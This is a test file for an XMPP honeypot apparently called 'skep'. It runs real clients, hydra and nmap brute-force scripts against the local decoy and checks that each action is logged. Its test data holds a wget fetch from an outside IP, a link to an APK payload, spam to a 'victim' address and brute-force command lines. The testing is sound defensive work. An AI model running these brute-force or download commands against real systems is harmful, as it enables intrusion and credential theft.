import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; hash?: string; method: string } } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'xmpp' && event.event.action === action
const line = (event: Event) => (event as { process?: { command_line?: string } }).process?.command_line ?? ''
const stanza = (words: string) => (event: Event) => ofAction('command')(event) && line(event).includes(words)
const login = (user: string, password: string, outcome: string) => (event: Event) =>
  ofAction('login')(event) &&
  (event as Login).user?.name === user &&
  (event as Login).skep.login.password === password &&
  event.event.outcome === outcome

const python = ['/usr/bin/python3', 'python3'].find(
  program => spawnSync(program, ['-c', 'import slixmpp']).status === 0,
)
const HOST = 'chat.example'
const home = fs.mkdtempSync(path.join(os.tmpdir(), 'xmpp-clients-'))
const file = (name: string, text: string, mode = 0o600) => {
  const at = path.join(home, name)
  fs.writeFileSync(at, text, { mode })
  return at
}
after(() => fs.rmSync(home, { recursive: true }))

describe('XMPP', () => {
  let skep: Skep
  let port: string
  before(async () => {
    const access = "{ rules: ['admin:letmein', 'mallory:s3cret'], otherwise: refuse }"
    skep = await startSkep({
      config: `persona: { os: debian-12 }\nservices: { xmpp: { hosts: [${HOST}, '0.0.1'], access: ${access} } }\n`,
    })
    port = String(skep.port('xmpp'))
  })
  after(() => skep?.stop())

  const slixmpp = (user: string, password: string, plain: boolean, tls: boolean, more = '') => `
import asyncio, ssl, slixmpp
heard = []
class Bot(slixmpp.ClientXMPP):
    def __init__(self):
        super().__init__('${user}@${HOST}/desk', '${password}')
        for name in ('xep_0030', 'xep_0199', 'xep_0092', 'xep_0054'): self.register_plugin(name)
        self.add_event_handler('session_start', self.begin)
        self.add_event_handler('failed_all_auth', lambda e: (heard.append('refused'), self.disconnect()))
        self.add_event_handler('message', lambda m: heard.append('message ' + m['body']))
    async def begin(self, event):
        self.send_presence()
        await self.get_roster()
        info = await self['xep_0030'].get_info(jid='${HOST}')
        heard.append('identity ' + [i[3] for i in info['disco_info']['identities']][0])
        heard.append('version ' + (await self['xep_0092'].get_version('${HOST}'))['software_version']['version'])
        heard.append('ping %d' % (await self['xep_0199'].ping('${HOST}') < 10))
        self.update_roster('mei@example.net', name='Mei')
        self.send_message(mto='${user}@${HOST}', mbody='take this: http://198.51.100.9/tool.apk', mtype='chat')
        ${more}
        await asyncio.sleep(1)
        self.disconnect()
bot = Bot()
bot.ssl_context = ssl._create_unverified_context()
bot.ssl_context.check_hostname = False
bot.get_ssl_context = lambda: bot.ssl_context
bot['feature_mechanisms'].unencrypted_plain = True
bot['feature_mechanisms'].unencrypted_scram = True
${plain ? "bot['feature_mechanisms'].use_mech = 'PLAIN'" : ''}
bot.connect(('127.0.0.1', ${port}), force_starttls=${tls ? 'True' : 'False'}, disable_starttls=${tls ? 'False' : 'True'})
try: bot.loop.run_until_complete(asyncio.wait_for(bot.disconnected, 20))
except asyncio.TimeoutError: heard.append('too slow')
print('\\n'.join(heard))
`
  const skip = python ? false : 'python3-slixmpp not installed'

  test('Python’s slixmpp talks after STARTTLS and SCRAM', { skip }, async () => {
    const { out, err } = await runClient(python!, ['-c', slixmpp('admin', 'letmein', false, true)], { seconds: 40 })
    assert.match(out, /identity Prosody\nversion 0\.12\.3\nping 1\n/, err)
    assert.match(out, /message take this/, err)
    await skep.eventually(login('admin', 'letmein', 'success'))
    await skep.eventually(stanza('http://198.51.100.9/tool.apk'))
    await skep.eventually(stanza("jid='mei@example.net'"))
    await skep.eventually(ofAction('tls-hello'))
  })
  test('and in the clear with PLAIN, to others, whom nobody tells', { skip }, async () => {
    const abroad = "self.send_message(mto='victim@elsewhere.example', mbody='spam')"
    const program = slixmpp('mallory', 's3cret', true, false, abroad)
    const { out, err } = await runClient(python!, ['-c', program], { seconds: 40 })
    assert.match(out, /identity Prosody/, err)
    await skep.eventually(login('mallory', 's3cret', 'success'))
    const [attempt] = await skep.eventually(ofAction('outbound-attempt'))
    assert.match(JSON.stringify(attempt), /elsewhere\.example/)
  })
  test('a wrong password fails, and its proof is kept', { skip }, async () => {
    const { out, err } = await runClient(python!, ['-c', slixmpp('admin', 'wrong-one', false, true)], { seconds: 40 })
    assert.match(out, /refused/, err)
    const failed = (event: Event) => ofAction('login')(event) && event.event.outcome === 'failure'
    const [event] = (await skep.eventually(failed)) as Login[]
    assert.match(event!.skep.login.hash!, /^\$scram-sha-1\$10000\$/)
  })
  test('sendxmpp sends its line', { skip: missing('sendxmpp') }, async () => {
    const settings = file('sendxmpprc', `mallory@${HOST};127.0.0.1:${port} s3cret ${HOST}\n`)
    const args = ['-f', settings, '--no-tls-verify', '-s', 'note', `mei@${HOST}`]
    const { err } = await runClient('sendxmpp', args, { input: 'wget http://198.51.100.9/x\n', seconds: 20 })
    await skep.eventually(stanza('wget http://198.51.100.9/x')).catch(error => assert.fail(`${error}\n${err}`))
  })
  // It takes what comes behind the first dot for the name.
  test('hydra guesses, and each guess is recorded', { skip: missing('hydra') }, async () => {
    const words = file('words', 'alpha\nbeta\nletmein\n')
    const args = ['-l', 'admin', '-P', words, '-t', '1', '-s', port, '127.0.0.1', 'xmpp', 'PLAIN']
    const { out, err } = await runClient('hydra', args, { seconds: 60 })
    assert.match(out, /login: admin +password: letmein/, err)
    for (const word of ['alpha', 'beta', 'letmein'])
      await skep.eventually(login('admin', word, word === 'letmein' ? 'success' : 'failure'))
  })
  test('nmap’s scripts see the ways in, and guess', { skip: missing('nmap') }, async () => {
    const words = file('nmap-words', 'gamma\nletmein\n')
    const users = file('nmap-users', 'admin\n')
    const given = `passdb=${words},userdb=${users},xmpp-brute.servername=${HOST},xmpp-info.server_name=${HOST},xmpp-brute.auth=PLAIN`
    const args = [
      '-Pn',
      '-n',
      '-sV',
      '-p',
      port,
      '--script',
      '+xmpp-info,+xmpp-brute',
      '--script-args',
      given,
      '127.0.0.1',
    ]
    const { out } = await runClient('nmap', args, { seconds: 200 })
    assert.match(out, /auth_mechanisms: *\n(?:\|[ _]+(?:PLAIN|SCRAM-SHA-1) *\n){2}/)
    assert.match(out, /Respects server name/)
    assert.match(out, /admin:letmein - Valid credentials/)
    assert.doesNotMatch(out, /honey|skep/i)
    await skep.eventually(login('admin', 'gamma', 'failure'))
  })
})
